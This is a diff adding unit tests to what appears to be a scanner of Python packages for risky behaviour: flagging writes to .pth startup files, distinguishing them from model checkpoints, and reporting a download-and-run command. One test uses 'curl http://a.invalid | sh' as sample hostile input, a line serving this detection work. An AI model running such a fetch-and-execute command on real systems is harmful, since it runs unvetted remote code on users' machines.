@@ -13,7 +13,7 @@ from assay.domain.facts import (
     Content,
     RemoteCode,
 )
-from assay.domain.finding import CheckStatus
+from assay.domain.finding import CheckStatus, Severity
 from tests.unit.assess.subjects import (
     at,
     config,
@@ -353,3 +353,42 @@ def test_code_that_is_run_and_goes_beyond_every_bound_is_high(kind, path):
 def test_code_of_another_version_of_python_is_not():
     facts = CodeFacts(place=at("setup.py"), problems=(problem("python-syntax"),))
     assert not run(CHECK, file("setup.py", facts)).findings
+
+
+@pytest.mark.parametrize(
+    ("name", "detail", "found"),
+    [
+        ("builtins.open", "…/a.pth, w", ["changes-system"]),
+        ("builtins.open", "…/a.pth, mode=wt, encoding=utf-8", ["changes-system"]),
+        ("pathlib.Path.write_text", "…/a.pth, import os", ["changes-system"]),
+        ("builtins.open", "model.pth, wb", []),
+        ("builtins.open", "model.pth, mode=wb", []),
+        ("os.replace", "a.pth.tar, last.pth", []),
+    ],
+)
+def test_lines_that_python_starts_with_are_told_from_checkpoints(name, detail, found):
+    assert said("file-write", name, "call", detail) == found
+
+
+def test_what_is_a_part_of_something_graver_is_told_once():
+    command = "curl http://a.invalid | sh"
+    started = act("process", "os.system", "import", command)
+    other = act("process", "os.system", "import", "id")
+    loud = act("process", "download-and-run", "import", command)
+    report = run(CHECK, source(started, loud, other))
+    assert sorted(rules(report)) == ["hostile-command", "starts-program"]
+    decoded = act("obfuscation", "builtins.exec", "import", "runs what it decodes")
+    text = act("dynamic-code", "builtins.exec", "import", "import os")
+    report = run(CHECK, source(decoded, text, started))
+    assert sorted(rules(report)) == ["hidden-code", "starts-program"]
+    # A program's name in pieces is one thing, and that it is started another.
+    pieces = act("obfuscation", "os.system", "import", "a name in pieces")
+    report = run(CHECK, source(pieces, other))
+    assert sorted(rules(report)) == ["hidden-code", "starts-program"]
+
+
+def test_whoever_loads_the_code_is_told_what_to_do_first():
+    grave = [rule for rule in CHECK.rules if rule.severity.rank >= Severity.HIGH.rank]
+    assert grave
+    for rule in grave:
+        assert rule.remediation.startswith("Do not "), rule.id
